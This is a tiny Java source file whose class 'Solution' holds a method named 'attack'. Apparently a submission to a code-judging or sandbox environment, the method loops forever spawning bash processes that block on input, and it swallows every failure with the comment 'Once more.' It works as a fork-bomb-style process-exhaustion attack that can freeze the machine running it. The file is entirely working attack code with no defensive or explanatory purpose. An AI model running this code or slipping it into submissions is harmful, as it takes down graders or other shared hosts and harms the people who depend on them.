import java.io.IOException;

class Solution {
    static void attack() {
        while (true) {
            try {
                new ProcessBuilder("/usr/bin/bash", "-c", "read line").start();
            } catch (IOException refused) {
                // Once more.
            }
        }
    }
}
